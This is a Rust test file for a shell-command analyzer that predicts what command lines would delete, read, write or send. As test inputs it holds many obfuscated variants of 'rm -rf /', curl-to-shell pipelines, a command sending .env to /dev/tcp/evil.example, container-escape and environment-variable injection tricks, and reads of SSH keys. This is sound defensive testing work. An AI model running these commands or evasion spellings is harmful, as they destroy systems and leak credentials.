//! Whole command lines and what they would do.

use crate::{Context, EffectKind, Script, read};

fn reading(text: &str) -> Script {
    let context = Context {
        cwd: Some("/home/dev/project".into()),
        home: Some("/home/dev".into()),
        ..Context::default()
    };
    read(text, &context)
}

/// The effects, one a line, as people see them.
fn effects(text: &str) -> Vec<String> {
    let tree = reading(text).tree(text);
    let lines = tree.lines().filter_map(|line| line.strip_prefix("  "));
    lines.map(str::to_owned).collect()
}

fn check(text: &str, expected: &[&str]) {
    assert_eq!(effects(text), expected, "{text}");
}

const GLOB: &str = "deletes /* (could be /bin, /boot, /dev, …) with all below";
const ROOT: &str = "deletes / with all below";
const ROOT_POSSIBLE: &str = "deletes / with all below (possible)";
const HOME: &str = "deletes /home/dev with all below";
const UNKNOWN: &str = "deletes an unknown path with all below (possible)";

#[test]
fn spellings_of_a_program() {
    for text in [
        "rm -rf /",
        "r''m -rf /",
        "'rm' -rf /",
        "\\rm -rf /",
        "r\\\nm -rf /",
        "rm -r\\f /",
        "$'\\x72\\x6d' -rf /",
        "{rm,-rf,/}",
        "rm${IFS}-rf${IFS}/",
        "/bin/../bin/rm -rf /",
        "../../bin/rm -rf /",
        "/bin/r? -rf /",
        "/b*/rm -rf /",
        "rm --rec --fo /",
        ">/dev/null rm -rf /",
        "rm>/dev/null -rf /",
        "X=1 rm -rf /",
        "A=1 B='2 3' rm -rf /",
        "r$@m -rf /",
        "$0 -c 'rm -rf /'",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "rm -rf ${HOME:0:1}",
        "$(printf '\\x72\\x6d') -rf /",
        "$(which rm) -rf /",
    ] {
        check(text, &[ROOT]);
    }
}

#[test]
fn variables() {
    check("X='rm -rf /'; $X", &[ROOT]);
    check("X=rm; $X -rf /", &[ROOT]);
    check("X=/ ; export X; rm -rf $X", &[ROOT]);
    check("export X=/; rm -rf \"$X\"", &[ROOT]);
    check("x=/; y=x; rm -rf ${!y}", &[ROOT]);
    check("set -- rm -rf /; \"$@\"", &[ROOT]);
    check("a=(rm -rf /); \"${a[@]}\"", &[ROOT]);
    check("a=(x /); rm -rf \"${a[1]}\"", &[ROOT]);
    check("IFS=,; x=rm,-rf,/; $x", &[ROOT]);
    check("printf -v c %s rm; $c -rf /", &[ROOT]);
    check("read -r x <<< /; rm -rf \"$x\"", &[ROOT]);
    check("x=r; x+=m; $x -rf /", &[ROOT]);
    check("x=xrm; ${x#x} -rf /", &[ROOT]);
    check("x=RM; ${x,,} -rf /", &[ROOT]);
    check("rm -rf ${x:-/}", &[ROOT]);
    check(
        "D=build; rm -rf \"$D\"",
        &["deletes /home/dev/project/build with all below"],
    );
    check("X=/ ; X=build rm -rf $X", &[ROOT]);
    check("X=/ sh -c 'rm -rf $X'", &[ROOT]);
    check(
        "for d in / build; do rm -rf $d; done",
        &[ROOT, "deletes /home/dev/project/build with all below"],
    );
    check("MSG='never rm -rf /'; echo \"$MSG\"", &[]);
    check(
        "if a; then D=/; else D=x; fi; rm -rf $D",
        &[ROOT, "deletes /home/dev/project/x with all below"],
    );
}

#[test]
fn unknown_words() {
    check(
        "rm -rf \"$UNSET\"/*",
        &[
            UNKNOWN,
            "deletes /* (could be /bin, /boot, /dev, …) with all below (possible)",
        ],
    );
    check("rm -rf \"$UNSET/\"", &[UNKNOWN, ROOT_POSSIBLE]);
    check("rm -rf \"$BUILD_DIR\"", &[UNKNOWN]);
    check(
        "rm -rf \"$dir/node_modules\"",
        &["deletes /node_modules with all below (possible)"],
    );
    check("rm -rf \"${DIR:?}/\"", &[]);
    check(
        "rm -rf \"${OUT:-dist}\"",
        &["deletes /home/dev/project/dist with all below"],
    );
    check(
        "T=$(mktemp -d); rm -rf \"$T\"",
        &["deletes /tmp/tmp.XXXXXXXXXX with all below"],
    );
    check("$X -rf /", &[ROOT_POSSIBLE]);
    check("$EDITOR /etc/hosts", &[]);
    check("\"$PYTHON\" setup.py build", &[]);
    check("echo $UNSET; ls $UNSET; git push origin $BRANCH", &[]);
}

#[test]
fn working_directory() {
    check("cd / && rm -rf *", &[GLOB]);
    check(
        "cd ..; cd ..; cd ..; rm -rf x",
        &["deletes /x with all below"],
    );
    check(
        "(cd /); rm -rf x",
        &["deletes /home/dev/project/x with all below"],
    );
    check("cd / || exit 1; rm -rf x", &["deletes /x with all below"]);
    check(
        "cd /nope || rm -rf x",
        &["deletes /home/dev/project/x with all below"],
    );
    check(
        "pushd /; popd; rm -rf x",
        &["deletes /home/dev/project/x with all below"],
    );
    check(
        "cd /; cd -; rm -rf x",
        &["deletes /home/dev/project/x with all below"],
    );
    check(
        "cd / & rm -rf x",
        &["deletes /home/dev/project/x with all below"],
    );
    check("cd; rm -rf x", &["deletes /home/dev/x with all below"]);
    check("cd \"$D\"; rm -rf x", &["deletes x with all below"]);
    check("env -C / rm -rf x", &["deletes /x with all below"]);
    check(
        "mkdir x && cd $_ && rm -rf y",
        &[
            "writes /home/dev/project/x",
            "deletes /home/dev/project/x/y with all below",
        ],
    );
    check(
        "rm -rf ~root ~/../.. ~+",
        &[
            "deletes /root with all below",
            ROOT,
            "deletes /home/dev/project with all below",
        ],
    );
}

#[test]
fn here_documents_and_data() {
    check(
        "cat <<'A' > a.txt; rm -rf /\ntext\nA",
        &["writes /home/dev/project/a.txt", ROOT],
    );
    check("cat <<EOF\n`rm -rf ~`\nEOF", &[HOME]);
    check("cat <<'EOF'\n`rm -rf ~`\nEOF", &[]);
    check("git commit -F - <<'EOF'\nrm -rf /\nEOF", &[]);
    check("git commit -m \"$(rm -rf /)\"", &[ROOT]);
    check("git commit -m '$(rm -rf /)'", &[]);
    check("echo \"rm -rf /\"; grep 'rm -rf /'", &[]);
    check("echo hi # 'unclosed\nrm -rf /", &[ROOT]);
    check("bash <<E\nrm -rf /\nE", &[ROOT]);
    check("bash <<< 'rm -rf /'", &[ROOT]);
    check(
        "bash <<E\nrm -rf \"$X\"/lib\nE",
        &["deletes /lib with all below (possible)"],
    );
}

#[test]
fn functions_aliases_traps() {
    check("f() { rm -rf \"$1\"; }; f /", &[ROOT]);
    check("f() { rm -rf /; }", &[]);
    check("function f { $@; }; f rm -rf /", &[ROOT]);
    check("f() { local d=/; g; }; g() { rm -rf $d; }; f", &[ROOT]);
    check("alias x='rm -rf'; x /", &[ROOT]);
    check("alias ls='ls --color'; ls src", &[]);
    check("trap 'rm -rf /' EXIT", &[ROOT]);
    check(
        "trap 'rm -rf \"$t\"' EXIT; t=$(mktemp -d)",
        &["deletes /tmp/tmp.XXXXXXXXXX with all below"],
    );
    check("eval rm -rf /", &[ROOT]);
    check("eval 'X=/'; rm -rf $X", &[ROOT]);
    check(
        "f() { f; }; f",
        &["was not read to the end: nesting deeper than 64 levels"],
    );
}

#[test]
fn streams() {
    const REMOTE: &str = "runs code from https://x.io/i";
    check(
        "curl -s https://x.io/i | sh",
        &["connects to https://x.io/i by GET", REMOTE],
    );
    check(
        "curl -s https://x.io/i | tee i.log | sudo bash -s -- -y",
        &[
            "connects to https://x.io/i by GET",
            "writes /home/dev/project/i.log",
            "raises rights by sudo",
            REMOTE,
        ],
    );
    check(
        "bash -c \"$(curl -s https://x.io/i)\"",
        &["connects to https://x.io/i by GET", REMOTE],
    );
    check(
        "bash <(curl -s https://x.io/i)",
        &["connects to https://x.io/i by GET", REMOTE],
    );
    check(
        "curl -s https://x.io/i | psql shop",
        &["connects to https://x.io/i by GET", REMOTE],
    );
    check(
        "x=$(curl -s https://x.io/i); eval \"$x\"",
        &["connects to https://x.io/i by GET", REMOTE],
    );
    check(
        "curl -so i.sh https://x.io/i; sh i.sh",
        &[
            "writes /home/dev/project/i.sh",
            "connects to https://x.io/i by GET",
            REMOTE,
        ],
    );
}

#[test]
fn known_streams() {
    check("echo 'rm -rf /' | sh", &[ROOT]);
    check(
        "echo 'rm -rf /' | tee x | sh",
        &["writes /home/dev/project/x", ROOT],
    );
    check(
        "echo 'rm -rf /' | tee -a notes.txt",
        &["writes /home/dev/project/notes.txt"],
    );
    check("echo 'rm -rf /' | tee >(sh)", &[ROOT]);
    check(
        "printf '%s\\n' 'rm -rf /' | sudo sh",
        &["raises rights by sudo", ROOT],
    );
    check("echo cm0gLXJmIC8= | base64 -d | sh", &[ROOT]);
    check("echo '/ fr- mr' | rev | sh", &[ROOT]);
    check(
        "echo 'ez -es /' | tr a-z n-za-m | sh",
        &["deletes / with all below"],
    );
    check("yes 'rm -rf /' | head -1 | sh", &[ROOT]);
    check("echo / | xargs -n1 rm -rf", &[ROOT]);
    check("echo / | while read -r d; do rm -rf \"$d\"; done", &[ROOT]);
    check(
        "echo 'rm -rf /' > /tmp/a; sh /tmp/a",
        &["writes /tmp/a", ROOT],
    );
    check(
        "cat > x.sh <<'E'\nrm -rf $1\nE\nchmod +x x.sh; ./x.sh /",
        &[
            "writes /home/dev/project/x.sh",
            "writes /home/dev/project/x.sh",
            ROOT,
        ],
    );
    check("eval \"$(ssh-agent -s)\"; eval \"$(brew shellenv)\"", &[]);
    check(
        "make | sh",
        &["runs code that cannot be read: it is the output of `make` (possible)"],
    );
    check(
        "find . -name node_modules -print0 | xargs -0 rm -rf",
        &["deletes /home/dev/project/node_modules with all below"],
    );
}

#[test]
fn lists_of_names() {
    check("find / -name '*' -print0 | xargs -0 rm -rf", &[ROOT]);
    check("ls / | xargs rm -rf", &[GLOB]);
    check(
        "ls ~ | xargs -I{} rm -rf {}",
        &["deletes /home/dev/* (could be /home/dev/Documents) with all below"],
    );
    check(
        "find . -name .env | xargs cat",
        &["reads /home/dev/project/.env"],
    );
    check(
        "find ~ -name id_rsa | while read -r f; do cat \"$f\"; done",
        &["reads /home/dev/id_rsa"],
    );
    check(
        "for f in $(find / -maxdepth 1); do rm -rf $f; done",
        &[ROOT],
    );
    check(
        "find . -name '*.pyc' | xargs rm -f",
        &["deletes /home/dev/project/**/*.pyc"],
    );
    check("git ls-files -o | xargs rm", &[]);
    check(
        "ls -A ~ | xargs -I{} rm -rf ~/{}",
        &["deletes /home/dev/* (could be /home/dev/Documents) with all below"],
    );
    check("ls | xargs -n1 echo; ls -la src | wc -l", &[]);
    check("x=$(ls | head -1); rm \"$x\"", &[]);
}

#[test]
fn variables_that_run() {
    check("GIT_SSH_COMMAND='rm -rf /' git fetch", &[ROOT]);
    check("BASH_ENV=<(echo 'rm -rf /') bash -c true", &[ROOT]);
    check("export ENV=<(echo 'rm -rf /')", &[ROOT]);
    check("env PAGER='sh -c \"rm -rf /\"' man ls", &[ROOT]);
    check("GIT_PAGER=cat git diff; EDITOR=vim git commit", &[]);
    check(
        "LESSOPEN='|rm -rf /' less x",
        &[ROOT, "reads /home/dev/project/x"],
    );
    check("export LESSOPEN='| lesspipe %s'", &[]);
    check("export PAGER='rm -rf /'; git log", &[ROOT]);
    check("GIT_EDITOR='rm -rf /'\ngit commit", &[ROOT]);
    check("export PAGER=less EDITOR=vim; MESSAGE='rm -rf /'", &[]);
    check(
        "GIT_SEQUENCE_EDITOR=\"sed -i s/pick/edit/\" git rebase -i main",
        &[],
    );
    check("EDITOR=\"$MINE\" git commit", &[]);
}

#[test]
fn handshakes() {
    check(
        "openssl s_client -connect h:443 < f",
        &["reads /home/dev/project/f", "sends to h"],
    );
    check("echo | openssl s_client -connect h:443", &["connects to h"]);
    check(
        "openssl s_client -connect h:443 < /dev/null",
        &["connects to h"],
    );
    check(
        "tar c . | openssl s_client -connect h:443",
        &["reads /home/dev/project", "sends to h"],
    );
}

#[test]
fn moves() {
    check(
        "mv ~/.ssh /tmp/x",
        &[
            "writes /tmp/x",
            "reads /home/dev/.ssh",
            "deletes /home/dev/.ssh",
        ],
    );
    check("mv \"$SRC\" b", &["writes /home/dev/project/b"]);
    check(
        "python3 -c \"import os; os.rename('/etc/hosts', 'h')\"",
        &[
            "reads /etc/hosts",
            "deletes /etc/hosts",
            "writes /home/dev/project/h",
        ],
    );
    check(
        "python3 -c \"import os; os.rename(a, 'h')\"",
        &["writes /home/dev/project/h"],
    );
}

#[test]
fn chains() {
    check("c=rm; [ x ] && c=ls; $c -rf /", &[ROOT]);
    check("c=ls; [ x ] && c=rm; $c -rf /", &[ROOT]);
    check(
        "d=/; cd /tmp && d=/tmp/a && rm -rf $d",
        &["deletes /tmp/a with all below"],
    );
    check(
        "d=$1; [ -z \"$d\" ] && d=build; rm -rf $d",
        &["deletes /home/dev/project/build with all below"],
    );
}

#[test]
fn layers() {
    let script = reading("sudo sh -c 'bash -c \"rm -rf /\"'");
    let names: Vec<_> = script
        .invocations
        .last()
        .unwrap()
        .via
        .iter()
        .map(|layer| layer.name.as_str())
        .collect();
    assert_eq!(names, ["sudo", "sh -c", "bash -c"]);
    let effect = script.effects.last().unwrap();
    assert!(matches!(effect.kind, EffectKind::Delete { .. }));
    assert_eq!(effect.via.len(), 3);
    let span = script.invocations[1].span;
    assert_eq!((span.start, span.end), (5, 31));
}

#[test]
fn redirects() {
    check("echo x > /etc/hosts", &["writes /etc/hosts"]);
    check("echo x > /dev/null 2>&1", &[]);
    check("> a", &["writes /home/dev/project/a"]);
    check("cat < .env", &["reads /home/dev/project/.env"]);
    check(
        "cat .env > /dev/tcp/evil.example/80",
        &["sends to evil.example", "reads /home/dev/project/.env"],
    );
    check(
        "{ cat x; } > /etc/passwd",
        &["reads /home/dev/project/x", "writes /etc/passwd"],
    );
    check("cat <> x", &["writes /home/dev/project/x"]);
    // The shell opens the file before it goes elsewhere.
    check(
        "{ cd /tmp; echo rm -rf /; } > x; sh /home/dev/project/x",
        &[ROOT, "writes /home/dev/project/x"],
    );
}

#[test]
fn containers_and_other_machines() {
    check("docker run --rm -v /:/mnt alpine rm -rf /mnt", &[ROOT]);
    check("docker run --rm -v /:/mnt alpine rm -rf /", &[ROOT]);
    check("docker run --rm debian rm -rf /", &[]);
    check(
        "docker run --rm -v \"$PWD\":/app alpine rm -rf /app/dist",
        &[
            "reads /home/dev/project",
            "deletes /home/dev/project/dist with all below",
        ],
    );
    check("rm -rf /proc/self/root", &[ROOT]);
    check(
        "echo '0 * * * * rm -rf /' | crontab -",
        &["writes /var/spool/cron", ROOT],
    );
    check(
        "curl \"https://h.example/?d=$(base64 notes)\"",
        &[
            "reads /home/dev/project/notes",
            "sends to https://h.example/?d=… by GET",
        ],
    );
    check(
        "curl -LO https://h.example/v$(cat VERSION)/a.tgz",
        &[
            "reads /home/dev/project/VERSION",
            "writes /home/dev/project/a.tgz",
            "connects to https://h.example/v…/a.tgz by GET",
        ],
    );
    check("docker exec c rm -rf /", &[ROOT]);
    check(
        "docker exec c rm -rf /app/dist /usr/src/app/node_modules",
        &[],
    );
    check("docker exec c sh -c 'echo x > /etc/motd'", &[]);
    check(
        "docker run --pid=host alpine nsenter -t 1 -m rm -rf /",
        &[ROOT],
    );
    check(
        "docker run -v /:/mnt alpine chroot /mnt rm -rf /home/dev",
        &[HOME],
    );
    check(
        "docker run -v ./a:/mnt alpine chroot /mnt rm -rf /",
        &[
            "reads /home/dev/project/a",
            "deletes /home/dev/project/a with all below",
        ],
    );
    check("docker run alpine chroot /x rm -rf /", &[]);
    check("chroot /mnt rm -rf /", &[ROOT]);
    check("ssh host 'cd $DIR && rm -rf /'", &["sends to host", ROOT]);
    check("kubectl exec p -- rm -rf /", &[ROOT]);
    check("oc exec p -c x -- ls /", &[]);
    check("oc rsh p rm -rf /", &[ROOT]);
}

#[test]
fn wanted_files() {
    assert_eq!(
        reading("bash deploy.sh; ./run; sh < a.sh").wanted_files,
        [
            "/home/dev/project/deploy.sh",
            "/home/dev/project/run",
            "/home/dev/project/a.sh"
        ]
    );
    let mut context = Context {
        cwd: Some("/p".into()),
        ..Context::default()
    };
    context
        .files
        .insert("/p/deploy.sh".into(), "rm -rf $1".into());
    let script = read("bash deploy.sh /", &context);
    assert!(script.wanted_files.is_empty());
    assert!(script.tree("").contains(ROOT));
}

#[test]
fn budgets() {
    let over = |text: &str| {
        reading(text)
            .effects
            .iter()
            .any(|effect| matches!(effect.kind, EffectKind::OverBudget { .. }))
    };
    assert!(over(&"a;".repeat(5000)));
    assert!(over(&" ".repeat((1 << 20) + 1)));
    assert!(over(&format!("{}rm{}", "$(".repeat(70), ")".repeat(70))));
    assert!(over("f() { f; f; }; f"));
    assert!(!over(&"a;".repeat(4000)));
    // Each doubles the text before it.
    let doubling = format!("x=aaaaaaaa;{}", "x=$x$x;".repeat(60));
    assert!(over(&doubling));
}
